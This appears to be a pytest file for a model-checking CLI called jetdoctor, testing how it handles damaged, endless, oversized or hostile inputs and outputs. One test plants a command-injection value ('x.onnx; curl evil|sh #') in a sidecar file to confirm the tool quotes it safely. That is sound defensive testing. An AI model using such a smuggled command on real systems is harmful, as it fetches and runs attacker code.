"""Files and streams that are not what they should be: one clear line, the right exit code, nothing lost."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import threading
import zipfile

import pytest

from jetdoctor import foreign
from jetdoctor.cli import main
from jetdoctor.types import UsageError

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SOUND = os.path.join(ROOT, "fixtures", "models", "gap_classifier_torchscript_opset13.onnx")

FIXABLE = os.path.join(ROOT, "fixtures", "models", "gap_classifier_dynamo_opset18.onnx")

NESTED = "[" * 100_000


@pytest.fixture(autouse=True)
def _elsewhere(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def run(capsys):
    def call(*arguments):
        code = main(list(arguments))
        captured = capsys.readouterr()
        return code, captured.out, captured.err

    return call


def outside(*arguments, **streams):
    """The command in a process of its own, from the checkout."""
    environment = dict(os.environ, PYTHONPATH=ROOT)
    command = [sys.executable, "-m", "jetdoctor", *arguments]
    return subprocess.run(command, env=environment, timeout=60, stderr=subprocess.PIPE, **streams)


# --- what is read


@pytest.mark.parametrize(
    ("content", "said"),
    [(NESTED, "nested too deep"), ("{", "not JSON (line 1)"),
     ('{"results": 5}', "nor a JSON report"), ("{}", "neither")],
)
def test_a_damaged_baseline_is_bad_usage(run, tmp_path, content, said):
    (tmp_path / "known.json").write_text(content)
    code, _, err = run("check", SOUND, "-t", "jp6.2", "--baseline", "known.json")
    assert code == 2 and said in err and "--write-baseline" in err


@pytest.mark.parametrize("path", ["/dev/zero", "pipe"])
def test_what_has_no_end_is_not_read(run, tmp_path, path):
    os.mkfifo(tmp_path / "pipe")
    for arguments in (["--baseline", path], ["--device", path]):
        code, _, err = run("check", SOUND, "-t", "jp6.2", *arguments)
        assert code == 2 and "is not a regular file" in err


def test_a_log_without_an_end_is_refused(run):
    code, _, err = run("triage", "/dev/zero")
    assert code == 2 and "a device, which has no end" in err
    assert run("triage", "/dev/null")[0] == 1


@pytest.mark.parametrize("arguments", [["--format", "json", "-o"], ["--apply"]])
def test_a_file_without_a_write_bit_stays_for_root_too(run, tmp_path, arguments):
    shutil.copy(FIXABLE, tmp_path / "m.onnx")
    (tmp_path / "old").write_text("old")
    os.chmod(tmp_path / "old", 0o444)
    os.chmod(tmp_path / "m.onnx", 0o444)
    before = (tmp_path / "m.onnx").read_bytes()
    if arguments == ["--apply"]:
        code, _, err = run("fix", "m.onnx", "-t", "jp5.0.2", "--apply")
    else:
        code, _, err = run("check", "m.onnx", "-t", "jp5.0.2", *arguments, "old")
    assert code == 2 and "read-only" in err
    assert (tmp_path / "old").read_text() == "old" and (tmp_path / "m.onnx").read_bytes() == before


def test_a_large_side_file_is_refused_by_its_size(tmp_path):
    with open(tmp_path / "large", "wb") as stream:
        stream.truncate(foreign.LIMIT + 1)
    with pytest.raises(UsageError, match="above the limit of 64"):
        foreign.read_json(str(tmp_path / "large"), "the baseline")


@pytest.mark.parametrize("content", ["a = " + "[" * 3000, "a" + ".a" * 20_000 + " = 1"])
def test_a_configuration_without_measure_is_bad_usage(run, tmp_path, content):
    (tmp_path / "jetdoctor.toml").write_text(content)
    code, _, err = run("check", SOUND, "-t", "jp6.2")
    assert code == 2 and "the configuration" in err


@pytest.mark.parametrize("release", [8, ["8"], {"a": 1}, True, None, "9" * 6000])
def test_a_sidecar_that_tells_nothing(run, tmp_path, release):
    (tmp_path / "a.engine").write_bytes(b"ftrt" + bytes(20) + bytes([8, 4, 1, 5]) + bytes(100))
    (tmp_path / "a.engine.json").write_text(json.dumps({"tensorrt": release}))
    code, _, err = run("check", "a.engine", "-t", "jp5.0.2")
    assert code in (0, 1) and "internal error" not in err


def test_a_sidecar_cannot_smuggle_a_command(run, tmp_path):
    (tmp_path / "a.engine").write_bytes(b"ftrt" + bytes(20) + bytes([8, 4, 1, 5]) + bytes(100))
    (tmp_path / "a.engine.json").write_text(json.dumps({"tensorrt": "8.6.1", "model": "x.onnx; curl evil|sh #"}))
    _, out, _ = run("check", "a.engine", "-t", "jp5.0.2", "--format", "json")
    (fix,) = {f["fix"]["title"] for r in json.loads(out)["results"] for f in r["findings"] if "verify" in str(f["fix"])}
    assert "'x.onnx; curl evil|sh #'" in fix


def bomb(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("x.npy", "w", force_zip64=True) as entry:
            entry.write(bytes(4 << 20))


@pytest.mark.parametrize("kind", ["damaged", "pickle", "bomb", "text"])
def test_inputs_that_cannot_be_read(run, tmp_path, monkeypatch, kind):
    import numpy

    from jetdoctor.verify import given

    monkeypatch.setattr(given, "LARGEST", 1 << 20)
    if kind == "damaged":
        numpy.savez(tmp_path / "x.npz", image=numpy.zeros((1, 3), "float32"))
        whole = (tmp_path / "x.npz").read_bytes()
        (tmp_path / "x.npz").write_bytes(whole.replace(b"NUMPY", b"DUMPY"))
    elif kind == "text":
        with zipfile.ZipFile(tmp_path / "x.npz", "w") as archive:
            archive.writestr("image.npy", "no array")
    elif kind == "pickle":
        numpy.savez(tmp_path / "x.npz", image=numpy.array([{}], dtype=object))
    else:
        bomb(tmp_path / "x.npz")
    code, _, err = run("verify", SOUND, "--backend", "onnxruntime", "--inputs", "x.npz")
    assert code == 2 and err.startswith("jetdoctor: ") and err.count("\n") == 1


def test_folders_that_contain_each_other_are_entered_once(run, tmp_path):
    inner = tmp_path / "models" / "inner"
    inner.mkdir(parents=True)
    shutil.copy(SOUND, inner / "a.onnx")
    for number in range(3):
        os.symlink(tmp_path / "models", inner / ("up%d" % number))
    _, out, _ = run("check", "models", "-t", "jp6.2", "--format", "json")
    assert len(json.loads(out)["results"]) == 1


def test_two_dashes_end_the_options(run, tmp_path):
    shutil.copy(SOUND, tmp_path / "-lead.onnx")
    assert run("check", "-t", "jp6.2", "--", "-lead.onnx")[0] == 0


@pytest.mark.parametrize("host", ["", " ", "--"])
def test_an_empty_host_is_not_this_machine(run, host):
    code, _, err = run("verify", SOUND, "--ssh=" + host)
    assert code == 2 and "--ssh" in err and "is not" in err


# --- what is written


def test_output_goes_through_a_link(run, tmp_path):
    (tmp_path / "shared.json").write_text("old")
    os.symlink(tmp_path / "shared.json", tmp_path / "link.json")
    assert run("check", SOUND, "-t", "jp6.2", "--format", "json", "-o", "link.json")[0] == 0
    assert os.path.islink("link.json") and json.loads((tmp_path / "shared.json").read_text())["results"]


def test_output_goes_into_a_pipe(run, tmp_path):
    os.mkfifo(tmp_path / "pipe")
    heard = []
    reader = threading.Thread(target=lambda: heard.append((tmp_path / "pipe").read_text()))
    reader.start()
    assert run("check", SOUND, "-t", "jp6.2", "--format", "json", "-o", "pipe")[0] == 0
    reader.join(10)
    assert json.loads(heard[0])["results"] and not os.path.isfile("pipe")


@pytest.mark.parametrize("name", ["/dev/stdout", "link"])
def test_output_to_standard_output_by_name(tmp_path, name):
    os.symlink("/proc/self/fd/1", tmp_path / "link")
    with open(tmp_path / "out", "wb") as sink:
        ended = outside("check", SOUND, "-t", "jp6.2", "--format", "json", "-o", name, stdout=sink)
    assert ended.returncode == 0 and json.loads((tmp_path / "out").read_text())["results"]


@pytest.mark.skipif(not os.path.isdir("/dev/shm"), reason="no /dev/shm here")
def test_the_file_system_in_memory_is_no_device(run):
    path = "/dev/shm/jetdoctor-test-%d.json" % os.getpid()
    try:
        assert run("check", SOUND, "-t", "jp6.2", "--format", "json", "-o", path)[0] == 0
        assert json.loads(open(path).read())["results"]
    finally:
        if os.path.exists(path):
            os.remove(path)


def test_an_input_is_never_the_output(run, tmp_path):
    shutil.copy(SOUND, tmp_path / "m.onnx")
    before = (tmp_path / "m.onnx").read_bytes()
    for command in ("check", "plan", "report", "verify"):
        code, _, err = run(command, "m.onnx", "-t", "jp6.2", "-o", "./m.onnx")
        assert code == 2 and "is an input of this command" in err
    assert (tmp_path / "m.onnx").read_bytes() == before


@pytest.mark.parametrize("form", ["json", "text"])
@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")
def test_a_full_disk_is_our_failure_in_one_line(form):
    with open("/dev/full", "wb") as full:
        ended = outside("check", SOUND, "-t", "jp6.2", "--format", form, stdout=full)
    assert ended.returncode == 3 and b"no space left" in ended.stderr and ended.stderr.count(b"\n") == 1


def test_a_failed_write_leaves_nothing_behind(run, tmp_path, monkeypatch):
    def refuse(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    code, _, err = run("check", SOUND, "-t", "jp6.2", "-o", "report.txt")
    assert code == 3 and "no space left" in err and os.listdir(tmp_path) == []


def test_closed_streams_are_not_an_internal_error():
    command = "exec %s -m jetdoctor check %s -t jp6.2 >&- <&-" % (sys.executable, SOUND)
    ended = subprocess.run(
        ["sh", "-c", command], env=dict(os.environ, PYTHONPATH=ROOT), stderr=subprocess.PIPE, timeout=60
    )
    assert ended.returncode == 0 and ended.stderr == b""
